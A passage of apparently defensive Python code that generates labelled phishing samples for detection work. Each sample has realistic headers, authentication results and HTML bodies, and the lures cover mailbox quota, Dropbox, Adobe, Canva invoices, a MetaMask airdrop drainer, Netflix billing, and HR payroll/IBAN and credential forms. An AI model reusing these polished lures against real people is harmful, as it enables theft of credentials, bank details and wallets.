    top, bottom = m365_in(rcpt, t, "40.107.20.91", "EUR05-DB8-obe.outbound.protection.outlook.com", frm, "pass",
                          ("colegio-santamaria-leon.es", "pass"), ("pass", "none"), "colegio-santamaria-leon.es",
                          ("pass", "100"), "p10", ctry="ES", lang="en",
                          ptr="mail-db8eur05on2091.outbound.protection.outlook.com")
    text = f"""Mailbox Storage Alert

Your mailbox {rcpt} has reached 49.6 GB of its 50 GB limit.
Incoming messages are being held and will be rejected after 24 hours.

To keep receiving mail, complete the storage validation form below with your
current sign-in details. Your quota will be increased automatically.

Validate mailbox: {form}

IT Service Desk
Microsoft 365 Administration
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#201f1e">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd">
<tr><td style="background:#d83b01;color:#fff;padding:12px 20px;font-size:17px;font-weight:600">Mailbox Storage Alert</td></tr>
<tr><td style="padding:20px">
<p>Your mailbox <b>{rcpt}</b> has reached <b>49.6 GB</b> of its 50 GB limit.</p>
<div style="background:#edebe9;height:14px;width:100%"><div style="background:#d83b01;height:14px;width:99%"></div></div>
<p>Incoming messages are being held and will be rejected after <b>24 hours</b>.</p>
<p>To keep receiving mail, complete the storage validation form below with your current sign-in details. Your quota will be increased automatically.</p>
<p style="padding:10px 0"><a href="{form}" style="background:#0078d4;color:#fff;padding:10px 26px;text-decoration:none;font-weight:600">Validate mailbox</a></p>
<p style="font-size:12px;color:#605e5c">IT Service Desk &middot; Microsoft 365 Administration</p>
</td></tr></table></div></body></html>
"""
    subject = "Mailbox Storage Limit Reached - Action Required"
    sender = f"""\
{out1}From: IT Service Desk <{frm}>
To: "{rcpt}" <{rcpt}>
Subject: {subject}
{m365_meta('p10', subject, 'es-ES')}Date: {rfc(t, 'Europe/Madrid', seconds=-3)}
Message-ID: {mid}
MIME-Version: 1.0
"""
    emit("phishing", "mailbox-quota-microsoft-forms-credentials", "mailbox-quota lure from a Spanish school's hijacked M365 mailbox; the link is a genuine forms.office.com form collecting passwords",
         top, sender, alt(b_outlook("p10a"), text, html), bottom)


def p_dropbox_transfer() -> None:
    t = when("2025-03-31 11:44:20")
    rcpt = "nolwenn.berthou@kerlann-industries.fr"
    link = "https://www.dropbox.com/t/" + rnd("p11l", 20, ALNUM)
    mf = f"bounces+{digits('p11mf', 7)}-{hexs('p11mf2', 4)}-{rcpt.replace('@', '=')}@em-s.dropbox.com"
    top, bottom = m365_in(rcpt, t, "149.72.154.232", "o1.em-s.dropbox.com", mf, "pass",
                          ("dropbox.com", "pass"), ("pass", "none"), "dropbox.com", ("pass", "100"), "p11",
                          ctry="US", lang="en", bcl=1)
    note = ("Good day, kindly find the RFQ package (drawings, BOQ and delivery terms) for the Jebel Ali "
            "warehouse project. Please sign in with your business email to download and submit your best "
            "quotation before Thursday. Regards, Ravi Menon - Procurement, Al Noor Marine Trading LLC")
    text = f"""Ravi Menon sent you files

"{note}"

RFQ_AlNoor_2025-0331
2 files · 1.4 MB · Expires in 7 days

View files: {link}

Dropbox Transfer lets anyone send large files, even to people without a
Dropbox account.

© 2025 Dropbox, Inc. 1800 Owens St, San Francisco, CA 94158
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f7f5f2;font-family:'Sharp Grotesk',Helvetica,Arial,sans-serif;color:#1e1919">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 0">
<table width="520" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:28px 32px 0"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34@2x.png" width="34" alt="Dropbox"></td></tr>
<tr><td style="padding:20px 32px 0;font-size:24px;font-weight:bold">Ravi Menon sent you files</td></tr>
<tr><td style="padding:16px 32px 0;font-size:15px;line-height:22px;color:#52514e">&ldquo;{htmllib.escape(note)}&rdquo;</td></tr>
<tr><td style="padding:20px 32px 0"><table cellpadding="12" style="border:1px solid #e6e4e1;width:100%"><tr><td style="font-size:15px"><b>RFQ_AlNoor_2025-0331</b><br><span style="color:#736c64;font-size:13px">2 files &middot; 1.4 MB &middot; Expires in 7 days</span></td></tr></table></td></tr>
<tr><td style="padding:24px 32px"><a href="{link}" style="background:#0061fe;color:#fff;padding:12px 28px;text-decoration:none;font-size:15px;border-radius:4px">View files</a></td></tr>
<tr><td style="padding:0 32px 28px;font-size:12px;color:#736c64">Dropbox Transfer lets anyone send large files, even to people without a Dropbox account.<br><br>&copy; 2025 Dropbox, Inc. 1800 Owens St, San Francisco, CA 94158</td></tr>
</table></td></tr></table>
<img src="https://u{digits('p11u', 7)}.ct.sendgrid.net/wf/open?upn=u001.{rnd('p11o', 90, ALNUM)}" width="1" height="1" alt="">
</body></html>
"""
    sender = f"""\
{dkim('dropbox.com', 'scph0223', 'p11', t, h='content-type:from:mime-version:subject:reply-to:to:cc:content-type:from:subject:to')}
Received: by recvd-6d9c58f5c8-8pdzq with SMTP id recvd-6d9c58f5c8-8pdzq-1-67EA7F94-1B
\t2025-03-31 11:44:20.198371201 +0000 UTC m=+1880233.401273655
Received: from {rnd('p11r', 12, ALNUM)} (unknown)
\tby geopod-ismtpd-12 (SG) with HTTP
\tid {rnd('p11sg', 22, ALNUM)}
\tMon, 31 Mar 2025 11:44:20.104 +0000 (UTC)
Content-Type: text/plain
Date: Mon, 31 Mar 2025 11:44:20 +0000 (UTC)
From: Dropbox <no-reply@dropbox.com>
Reply-To: Ravi Menon <procurement.alnoor.ae@gmail.com>
Message-ID: <{rnd('p11sg', 22, ALNUM)}@geopod-ismtpd-12>
Subject: Ravi Menon sent you files
To: {rcpt}
X-SG-EID: u001.{rnd('p11eid', 100)}
X-Entity-ID: u001.{rnd('p11ent', 22)}==
MIME-Version: 1.0
"""
    sender = sender.replace("Content-Type: text/plain\n", "")
    emit("phishing", "dropbox-transfer-rfq-unknown-sender-gmail-replyto", "genuine Dropbox Transfer notice (auth passes) from an unknown 'procurement' sender with a Gmail Reply-To; the note asks to sign in with the business e-mail to get an RFQ",
         top, sender, alt(hexs("p11alt", 60), text, html), bottom)


def p_adobe_acrobat() -> None:
    t = when("2024-06-19 16:32:48")
    rcpt = "j.hartley@outlook.com"
    urn = "urn:aaid:sc:VA6C2:" + guid("p12urn")
    link = f"https://acrobat.adobe.com/id/{urn}?viewer%21megaVerb=group-discover"
    mf = f"0100019{hexs('p12mf', 9)}-{guid('p12mf2')}-000000@mail.adobe.com"
    top, bottom = m365_in(rcpt, t, "54.240.8.67", "a8-67.smtp-out.amazonses.com", mf, "pass",
                          ("adobe.com", "pass"), ("pass", "none"), "adobe.com", ("pass", "100"), "p12",
                          ctry="US", lang="en", consumer=True, europe=False, bcl=2)
    msg = "Hi, please review the attached payment remittance and confirm the transfer details. Thanks, Tom"
    text = f"""Tom Becker (tbecker.accts@outlook.com) has shared a document.

Payment_Remittance_0619.pdf

"{msg}"

Open: {link}

Adobe Acrobat
To stop receiving these notifications, contact the sender.
Adobe Inc., 345 Park Avenue, San Jose, CA 95110-2704 USA
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f5f5f5;font-family:adobe-clean,'Source Sans Pro',Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:4px">
<tr><td style="padding:28px 36px 10px"><img src="https://documentcloud.adobe.com/dc-shared-assets/images/acrobat-logo.png" width="36" alt="Adobe Acrobat"></td></tr>
<tr><td style="padding:8px 36px;font-size:18px;color:#2c2c2c"><b>Tom Becker</b> (tbecker.accts@outlook.com) has shared a document.</td></tr>
<tr><td style="padding:16px 36px"><table cellpadding="14" style="background:#f8f8f8;width:100%"><tr><td style="font-size:15px">&#128196; Payment_Remittance_0619.pdf</td></tr></table></td></tr>
<tr><td style="padding:4px 36px;font-size:15px;color:#4b4b4b;font-style:italic">&ldquo;{msg}&rdquo;</td></tr>
<tr><td style="padding:24px 36px"><a href="{link}" style="background:#1473e6;color:#fff;padding:10px 28px;border-radius:16px;text-decoration:none;font-size:15px;font-weight:bold">Open</a></td></tr>
<tr><td style="padding:16px 36px 30px;font-size:11px;color:#707070;border-top:1px solid #eaeaea">To stop receiving these notifications, contact the sender.<br>Adobe Inc., 345 Park Avenue, San Jose, CA 95110-2704 USA &middot; <a href="https://www.adobe.com/privacy.html" style="color:#707070">Privacy</a></td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('adobe.com', 'selector1', 'p12', t, h='Subject:From:To:Reply-To:MIME-Version:Content-Type:Message-ID:Date')}
{dkim('amazonses.com', 'ug7nbtf4gccmlpwj322ax3p6ow6yfsug', 'p12s', t, h='Subject:From:To:Reply-To:MIME-Version:Content-Type:Message-ID:Date:Feedback-ID')}
Subject: =?UTF-8?Q?Tom_Becker_has_shared_=22Payment=5FRemittance=5F0619=2Epdf=22_with_you?=
From: Adobe Acrobat <message@adobe.com>
To: {rcpt}
Reply-To: tbecker.accts@outlook.com
MIME-Version: 1.0
Message-ID: <0100019{hexs('p12mf', 9)}-{guid('p12mf2')}-000000@email.amazonses.com>
Date: {rfc(t)}
Feedback-ID: 1.us-east-1.{rnd('p12fb', 43)}=:AmazonSES
X-SES-Outgoing: 2024.06.19-54.240.8.67
"""
    emit("phishing", "adobe-acrobat-shared-remittance-genuine-service", "genuine Adobe Acrobat share (auth passes for adobe.com) of a 'payment remittance' from an unknown outlook.com user; the PDF in Adobe's cloud is the lure",
         top, sender, alt("=_" + hexs("p12alt", 30), text, html), bottom)


def p_canva_pt() -> None:
    t = when("2024-09-12 13:09:55")
    rcpt = "renata.azevedo@uol.com.br"
    design = "DAG" + rnd("p13d", 8, ALNUM)
    link = f"https://www.canva.com/design/{design}/{rnd('p13k', 22, ALNUM)}/view?utm_content={design}&utm_campaign=designshare&utm_medium=link&utm_source=sharebutton"
    mf = f"01000191{hexs('p13mf', 8)}-{guid('p13mf2')}-000000@send.canva.com"
    top = uol_in(rcpt, t, "54.240.27.51", "a27-51.smtp-out.us-west-2.amazonses.com", mf, "pass",
                 ("canva.com", "pass"), "pass", "canva.com", "p13")
    text = f"""Marcelo Duarte compartilhou um design com você

"Fatura N.º 2024-5571 – Pagamento pendente"

"Segue a fatura em aberto. Para evitar o protesto do título, acesse o
documento e confirme seus dados de pagamento até amanhã."

Abrir design: {link}

Você recebeu este e-mail porque Marcelo Duarte compartilhou um design com
você no Canva.
Canva®, 110 Kippax St, Surry Hills NSW 2010, Austrália
"""
    html = f"""<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f2f3f5;font-family:'Canva Sans',Helvetica,Arial,sans-serif;color:#0e1318">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 0">
<table width="540" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px">
<tr><td style="padding:28px 32px 0"><img src="https://static.canva.com/static/images/email/canva-logo-2023.png" width="84" alt="Canva"></td></tr>
<tr><td style="padding:22px 32px 0;font-size:22px;font-weight:bold">Marcelo Duarte compartilhou um design com você</td></tr>
<tr><td style="padding:18px 32px 0"><table cellpadding="0" cellspacing="0" style="border:1px solid #dcdee5;border-radius:8px;width:100%"><tr><td style="padding:14px;font-size:15px"><b>Fatura N.º 2024-5571 &ndash; Pagamento pendente</b><br><span style="color:#6b7280;font-size:13px">Documento A4</span></td></tr></table></td></tr>
<tr><td style="padding:16px 32px 0;font-size:15px;line-height:22px;color:#3d4250">&ldquo;Segue a fatura em aberto. Para evitar o protesto do título, acesse o documento e confirme seus dados de pagamento até amanhã.&rdquo;</td></tr>
<tr><td style="padding:26px 32px"><a href="{htmllib.escape(link)}" style="background:#8b3dff;color:#fff;padding:12px 28px;border-radius:8px;text-decoration:none;font-weight:bold">Abrir design</a></td></tr>
<tr><td style="padding:0 32px 28px;font-size:12px;color:#6b7280">Você recebeu este e-mail porque Marcelo Duarte compartilhou um design com você no Canva.<br>Canva&reg;, 110 Kippax St, Surry Hills NSW 2010, Austrália</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
{dkim('canva.com', 's1', 'p13', t, h='Content-Type:MIME-Version:From:To:Subject:Message-ID:Date')}
{dkim('amazonses.com', 'hsbnp7p3ensaochzwyq5wwmceodymuwv', 'p13s', t, h='Content-Type:MIME-Version:From:To:Subject:Message-ID:Date:Feedback-ID')}
Content-Type: text/plain
MIME-Version: 1.0
From: Canva <no-reply@canva.com>
To: {rcpt}
Subject: =?UTF-8?Q?Marcelo_Duarte_compartilhou_=22Fatura_N=2E=C2=BA_2024-5571_=E2=80=93_Pagam?=
 =?UTF-8?Q?ento_pendente=22_com_voc=C3=AA?=
Message-ID: <01000191{hexs('p13mf', 8)}-{guid('p13mf2')}-000000@us-west-2.amazonses.com>
Date: {rfc(t)}
Feedback-ID: 1.us-west-2.{rnd('p13fb', 43)}=:AmazonSES
X-SES-Outgoing: 2024.09.12-54.240.27.51
"""
    sender = sender.replace("Content-Type: text/plain\n", "")
    emit("phishing", "canva-design-share-fatura-pendente-pt", "genuine Canva design-share notice (auth passes) whose design is an 'overdue invoice' asking to confirm payment details; the Canva page links on to the phishing site",
         top, sender, alt(hexs("p13alt", 28), text, html))


def p_notion_site() -> None:
    t = when("2025-06-12 09:51:26")
    rcpt = "yann.quere@kerlann-industries.fr"
    frm = "c.ortega@ortega-logistics.mx"
    link = "https://ortega-logistics.notion.site/BL-ORT-2025-0612-Shipping-Documents-" + hexs("p14n", 32)
    top, bottom = m365_in(rcpt, t, "209.85.218.52", "mail-ej1-f52.google.com", frm, "pass",
                          ("ortega-logistics.mx", "pass"), ("pass", "none"), "ortega-logistics.mx", ("pass", "100"), "p14",
                          ctry="US", lang="en")
    text = f"""Hello Yann,

The shipping documents for container MSKU 7741028 are ready (Bill of Lading,
packing list and commercial invoice). Due to the size, we uploaded them to our
document portal:

{link}

Please review and confirm before the vessel cut-off on Friday.

Best regards,
Carlos Ortega
Export Operations | Ortega Logistics S.A. de C.V.
Manzanillo, Colima - México
"""
    html = f"""<div dir="ltr"><div>Hello Yann,</div><div><br></div><div>The shipping documents for container MSKU 7741028 are ready (Bill of Lading, packing list and commercial invoice). Due to the size, we uploaded them to our document portal:</div><div><br></div><div><a href="{link}">BL ORT-2025-0612 - Shipping Documents</a></div><div><br></div><div>Please review and confirm before the vessel cut-off on Friday.</div><div><br></div><div>Best regards,</div><div>Carlos Ortega</div><div>Export Operations | Ortega Logistics S.A. de C.V.</div><div>Manzanillo, Colima - México</div></div>
"""
    sender = f"""\
{gmail_out('p14', t, h='mime-version:from:date:message-id:subject:to').replace("d=gmail.com", "d=ortega-logistics.mx").replace("s=20230601", "s=google", 1)}MIME-Version: 1.0
From: Carlos Ortega <{frm}>
Date: {rfc(t, 'America/Mexico_City', seconds=-2)}
Message-ID: {gmail_ids('p14', t)}
Subject: BL ORT-2025-0612 - shipping documents
To: Yann Quere <{rcpt}>
"""
    emit("phishing", "shipping-documents-notion-site-link", "hijacked forwarder's Google Workspace mailbox (auth passes); plain business text, one link to a notion.site page that fronts the credential page",
         top, sender, alt(b_gmail("p14a"), text, html), bottom)


def p_webflow_wallet() -> None:
    t = when("2024-05-20 19:40:12")
    rcpt = "sarah.lindqvist91@gmail.com"
    mf = f"bounces+{digits('p15mf', 8)}-{hexs('p15mf2', 4)}-sarah.lindqvist91=gmail.com@em7741.rentwise-app.com"
    click = "https://u" + digits("p15u", 8) + ".ct.sendgrid.net/ls/click?upn=u001." + rnd("p15c", 160, ALNUM + "-_")
    top = gmail_in(rcpt, t, "149.72.123.45", "o3.ptr7741.rentwise-app.com", mf, "pass",
                   [("rentwise-app.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")],
                   ("pass", "p=NONE", "sp=NONE", "NONE", "rentwise-app.com"), "p15")
    text = f"""MetaMask

Your wallet is eligible for the $MASK token airdrop

Early users of MetaMask Swaps and Bridge qualify for the first MASK
distribution. Allocation for your wallet: 1,250 MASK (~ $3,480).

Claim window closes 31 May 2024, 23:59 UTC. Unclaimed tokens return to the
treasury.

Connect your wallet to claim: {click}

MetaMask will never ask for your Secret Recovery Phrase by e-mail.
© 2024 Consensys Software Inc.
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f2f4f6;font-family:Euclid Circular B,Helvetica,Arial,sans-serif;color:#24272a">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:12px">
<tr><td align="center" style="padding:30px 0 6px"><img src="https://metamask-airdrop-claim.webflow.io/images/fox.png" width="64" alt="MetaMask"></td></tr>
<tr><td align="center" style="padding:8px 40px;font-size:24px;font-weight:bold">Your wallet is eligible for the $MASK airdrop</td></tr>
<tr><td style="padding:14px 40px;font-size:15px;line-height:23px">Early users of MetaMask Swaps and Bridge qualify for the first MASK distribution.<br><br>Allocation for your wallet: <b>1,250 MASK (~ $3,480)</b><br><br>Claim window closes <b>31 May 2024, 23:59 UTC</b>. Unclaimed tokens return to the treasury.</td></tr>
<tr><td align="center" style="padding:20px 40px 30px"><a href="{click}" style="background:#0376c9;color:#fff;padding:14px 36px;border-radius:24px;text-decoration:none;font-weight:bold;font-size:16px">Connect wallet &amp; claim</a></td></tr>
<tr><td style="padding:18px 40px;font-size:11px;color:#6a737d;border-top:1px solid #eee">MetaMask will never ask for your Secret Recovery Phrase by e-mail.<br>&copy; 2024 Consensys Software Inc.</td></tr>
</table></td></tr></table>
<img src="https://u{digits('p15u', 8)}.ct.sendgrid.net/wf/open?upn=u001.{rnd('p15o', 96, ALNUM)}" alt="" width="1" height="1">
</body></html>
"""
    sender = f"""\
{dkim('rentwise-app.com', 's1', 'p15', t, h='content-type:from:mime-version:subject:to:cc:content-type:from:subject:to')}
{dkim('sendgrid.info', 'smtpapi', 'p15s', t, h='content-type:from:mime-version:subject:to:cc:content-type:from:subject:to')}
Received: by filterdrecv-7bd8b8b6c-2hmxq with SMTP id filterdrecv-7bd8b8b6c-2hmxq-1-664BA6BC-7
\t2024-05-20 19:40:12.450117762 +0000 UTC m=+4410234.120553118
Received: from {rnd('p15r', 12, ALNUM)} (unknown)
\tby geopod-ismtpd-5 (SG) with HTTP
\tid {rnd('p15sg', 22, ALNUM)}
\tMon, 20 May 2024 19:40:12.391 +0000 (UTC)
Date: Mon, 20 May 2024 19:40:12 +0000 (UTC)
From: MetaMask <rewards@rentwise-app.com>
Mime-Version: 1.0
Message-ID: <{rnd('p15sg', 22, ALNUM)}@geopod-ismtpd-5>
Subject: =?UTF-8?B?{base64.b64encode('🦊 Your wallet qualifies for the $MASK airdrop – claim before May 31'.encode()).decode()}?=
To: {rcpt}
X-SG-EID: u001.{rnd('p15eid', 100)}
X-Entity-ID: u001.{rnd('p15ent', 22)}==
"""
    emit("phishing", "metamask-airdrop-sendgrid-webflow-wallet-drainer", "MetaMask airdrop from an unrelated SaaS's hijacked SendGrid account; click-tracked link lands on a webflow.io 'connect wallet' drainer",
         top, sender, alt(hexs("p15alt", 60), text, html))


def p_wix_netflix_es() -> None:
    t = when("2023-10-05 22:14:39")
    rcpt = "lucia.ferrer.m@outlook.com"
    frm = "no-reply@grupoalbaceteinmo.com"
    link = "https://alvarezdesignstudio2.wixsite.com/my-site-7/cuenta"
    top, bottom = m365_in(rcpt, t, "162.241.216.18", "box5241.bluehost.com", frm, "pass",
                          None, ("none", "none"), "grupoalbaceteinmo.com", ("softpass", "001"), "p16",
                          ctry="US", lang="es", consumer=True)
    text = f"""NETFLIX

Hola:

No hemos podido procesar el pago de tu suscripción de este mes.
Tu cuenta se suspenderá en 24 horas si no actualizas tu método de pago.

Actualizar cuenta: {link}

¿Necesitas ayuda? Visita el Centro de ayuda.

El equipo de Netflix
"""
    html = f"""<html><body style="margin:0;background:#fff;font-family:Netflix Sans,Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center"><table width="500" cellpadding="0" cellspacing="0">
<tr><td style="padding:30px 40px 10px"><span style="color:#e50914;font-size:34px;font-weight:900;letter-spacing:1px">NETFLIX</span></td></tr>
<tr><td style="padding:10px 40px;font-size:28px;font-weight:bold;color:#221f1f">Actualiza tu método de pago</td></tr>
<tr><td style="padding:10px 40px;font-size:16px;color:#221f1f;line-height:22px">Hola:<br><br>No hemos podido procesar el pago de tu suscripción de este mes. Tu cuenta se suspenderá en <b>24 horas</b> si no actualizas tu método de pago.</td></tr>
<tr><td style="padding:20px 40px"><a href="{link}" style="display:block;background:#e50914;color:#fff;text-align:center;padding:14px;text-decoration:none;font-size:16px;font-weight:bold;border-radius:4px">Actualizar cuenta</a></td></tr>
<tr><td style="padding:10px 40px 30px;font-size:14px;color:#221f1f">¿Necesitas ayuda? Visita el <a href="https://help.netflix.com/es" style="color:#221f1f">Centro de ayuda</a>.<br><br>El equipo de Netflix</td></tr>
</table></td></tr></table></body></html>
"""
    sender = f"""\
Received: from [185.225.74.61] (port=51822 helo=[127.0.0.1])
\tby box5241.bluehost.com with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384
\t(Exim 4.96.1)
\t(envelope-from <{frm}>)
\tid 1qoWbn-001xyZ-0r
\tfor {rcpt};
\t{rfc(t, 'America/Denver', seconds=-2)}
From: "Netflix" <{frm}>
To: {rcpt}
Subject: =?UTF-8?Q?Tu_cuenta_ser=C3=A1_suspendida_=E2=80=93_actualiza_tu_m=C3=A9todo_de_pago?=
Date: {rfc(t, 'Europe/Madrid', seconds=-3)}
Message-ID: <{hexs('p16m', 32)}@grupoalbaceteinmo.com>
MIME-Version: 1.0
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - box5241.bluehost.com
X-AntiAbuse: Original Domain - outlook.com
X-AntiAbuse: Sender Address Domain - grupoalbaceteinmo.com
X-Get-Message-Sender-Via: box5241.bluehost.com: authenticated_id: no-reply@grupoalbaceteinmo.com
"""
    emit("phishing", "netflix-pago-suspendido-wixsite-es", "Netflix payment lure from a real-estate site's hijacked cPanel mailbox; the button goes to a free wixsite.com page",
         top, sender, alt("b1=_" + rnd("p16b", 30, ALNUM), text, html), bottom)


def p_typeform_nl() -> None:
    t = when("2024-03-05 07:22:10")
    rcpt = "marieke.vandenberg@outlook.com"
    frm = "j.dekker1967@hotmail.com"
    link = "https://form.typeform.com/to/Qx7Lp2Rk"
    top, bottom = m365_in(rcpt, t, "40.92.53.17", "EUR02-VI1-obe.outbound.protection.outlook.com", frm, "pass",
                          ("hotmail.com", "pass"), ("pass", "none"), "hotmail.com", ("pass", "100"), "p17",
                          ctry="NL", lang="nl", consumer=True,
                          ptr="mail-vi1eur02olkn2017.outbound.protection.outlook.com")
    text = f"""Beste gebruiker,

Uw Outlook-mailbox wordt binnen 24 uur gedeactiveerd omdat de verificatie
van uw account niet is voltooid.

Om verlies van e-mails en contactpersonen te voorkomen, bevestigt u uw
gegevens via het onderstaande formulier:

{link}

Met vriendelijke groet,
Microsoft Outlook Team
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">
<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">Beste gebruiker,<br><br>
Uw Outlook-mailbox wordt binnen <b>24 uur gedeactiveerd</b> omdat de verificatie van uw account niet is voltooid.<br><br>
Om verlies van e-mails en contactpersonen te voorkomen, bevestigt u uw gegevens via het onderstaande formulier:<br><br>
<a href="{link}" style="background:#0078d4;color:#ffffff;padding:8px 20px;text-decoration:none">Account verifiëren</a><br><br>
Met vriendelijke groet,<br>Microsoft Outlook Team</div></body></html>
"""
    out1, mid = m365_out("p17", t, "hotmail.com", region="EURP191", host="AM8P191MB")
    out1 = out1.replace("s=selector1", "s=selector1", 1)
    sender = f"""\
{out1}From: Microsoft Outlook Team <{frm}>
To: "{rcpt}" <{rcpt}>
Subject: Uw mailbox wordt gedeactiveerd - verificatie vereist
{m365_meta('p17', 'Uw mailbox wordt gedeactiveerd - verificatie vereist', 'nl-NL')}Date: {rfc(t, 'Europe/Amsterdam', seconds=-3)}
Message-ID: {mid}
MIME-Version: 1.0
X-TMN: [{rnd('p17tmn', 32)}]
"""
    emit("phishing", "outlook-deactivation-typeform-hotmail-nl", "Dutch mailbox-deactivation lure from a hijacked hotmail.com account (auth passes); the form is a genuine form.typeform.com page",
         top, sender, alt(b_outlook("p17a"), text, html), bottom)


def p_zoho_forms_payroll() -> None:
    t = when("2025-02-19 07:31:44")
    rcpt = "gaelle.riou@kerlann-industries.fr"
    frm = "rh.kerlann@zohomail.eu"
    link = "https://forms.zohopublic.eu/rhkerlann/form/MiseajourPaie2025/formperma/" + rnd("p18f", 43, ALNUM + "_-")
    top, bottom = m365_in(rcpt, t, "185.20.211.33", "sender-op-o33.zoho.eu", frm, "pass",
                          ("zohomail.eu", "pass"), ("pass", "none"), "zohomail.eu", ("pass", "100"), "p18",
                          ctry="NL", lang="fr")
    text = f"""Bonjour,

Suite au changement de prestataire de paie au 1er mars 2025, chaque
collaborateur doit confirmer ses informations personnelles et bancaires
(IBAN, identifiants de l'espace salarié) avant le 24 février.

Sans mise à jour, le virement du salaire de mars ne pourra pas être garanti.

Formulaire de mise à jour : {link}

Merci de votre compréhension,

Service Ressources Humaines
Kerlann Industries
"""
    html = f"""<div style="font-family:Verdana,Arial,Helvetica,sans-serif;font-size:10pt"><div>Bonjour,<br></div><div><br></div>
<div>Suite au changement de prestataire de paie au <b>1er mars 2025</b>, chaque collaborateur doit confirmer ses informations personnelles et bancaires (IBAN, identifiants de l'espace salarié) avant le <b>24 février</b>.<br></div><div><br></div>
<div>Sans mise à jour, le virement du salaire de mars ne pourra pas être garanti.<br></div><div><br></div>
<div><a href="{link}" target="_blank">Formulaire de mise à jour des informations de paie</a><br></div><div><br></div>
<div>Merci de votre compréhension,<br></div><div><br></div><div>Service Ressources Humaines<br></div><div>Kerlann Industries<br></div></div>
"""
    sender = f"""\
ARC-Seal: i=1; a=rsa-sha256; t={int(t.timestamp())}; cv=none;
\td=zohomail.eu; s=zohoarc;
\tb={sig_value('p18as')}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.eu; s=zohoarc;
\tt={int(t.timestamp())}; h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To:Message-Id:Reply-To:Cc;
\tbh={rb64('p18ambh', 32)};
\tb={sig_value('p18amb')}
ARC-Authentication-Results: i=1; mx.zohomail.eu;
\tdkim=pass  header.i=zohomail.eu;
\tspf=pass  smtp.mailfrom=rh.kerlann@zohomail.eu;
\tdmarc=pass header.from=<rh.kerlann@zohomail.eu>
{dkim('zohomail.eu', 'zmail', 'p18', t, h='Date:Date:From:From:To:To:Message-Id:Message-Id:In-Reply-To:Subject:Subject:MIME-Version:Content-Type:Reply-To:Cc', i='rh.kerlann@zohomail.eu')}
Received: from mail.zoho.eu by mx.zoho.eu
\twith SMTP id {digits('p18id', 13)}{digits('p18id2', 6)}.{digits('p18id3', 3)}; {rfc(t, 'Europe/Paris', seconds=-2)}
Date: {rfc(t, 'Europe/Paris', seconds=-3)}
From: =?UTF-8?Q?Kerlann_Industries_-_Service_RH?= <{frm}>
To: "{rcpt}" <{rcpt}>
Message-Id: <{hexs('p18m', 16)}.{digits('p18m2', 19)}@zohomail.eu>
Subject: =?UTF-8?Q?Mise_=C3=A0_jour_obligatoire_de_vos_informations_de_paie_?=
 =?UTF-8?Q?=E2=80=93_avant_le_24/02?=
MIME-Version: 1.0
Importance: High
User-Agent: Zoho Mail
X-Mailer: Zoho Mail
"""
    emit("phishing", "kerlann-rh-zohomail-payroll-zoho-forms-fr", "organisation's HR name on a free zohomail.eu address; asks staff to submit IBAN and employee-portal credentials in a genuine Zoho Forms page",
         top, sender, alt("----=_Part_" + digits("p18b", 7) + "_" + digits("p18b2", 9) + "." + str(int(t.timestamp())) + "612", text, html), bottom)


def p_docsend() -> None:
    t = when("2024-08-27 14:02:19")
    rcpt = "pierre-yves.nicol@kerlann-industries.fr"
    link = "https://docsend.com/view/" + rnd("p19l", 16, LOWNUM)
    mf = f"bounces+{digits('p19mf', 7)}-{hexs('p19mf2', 4)}-{rcpt.replace('@', '=')}@mail.docsend.com"
    top, bottom = m365_in(rcpt, t, "168.245.36.112", "o3.mail.docsend.com", mf, "pass",
                          ("docsend.com", "pass"), ("pass", "none"), "docsend.com", ("pass", "100"), "p19",
                          ctry="US", lang="en", bcl=1)
    text = f"""Priya Nair shared a document with you

Tender Documentation - Q3 Freight Lanes (EU-GCC)

Message from Priya Nair:
"Hello, as discussed please find the tender pack for the Q3 lanes. Access
requires e-mail verification with your company account. Submission closes
Friday 17:00 CET."

View document: {link}

Powered by DocSend · Dropbox, Inc.
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f4f6f8;font-family:Helvetica,Arial,sans-serif;color:#253238">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 0">
<table width="520" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:6px">
<tr><td style="padding:26px 32px 6px;font-size:13px;color:#78909c">DocSend</td></tr>
<tr><td style="padding:6px 32px;font-size:20px;font-weight:bold">Priya Nair shared a document with you</td></tr>
<tr><td style="padding:14px 32px;font-size:16px"><b>Tender Documentation - Q3 Freight Lanes (EU-GCC)</b></td></tr>
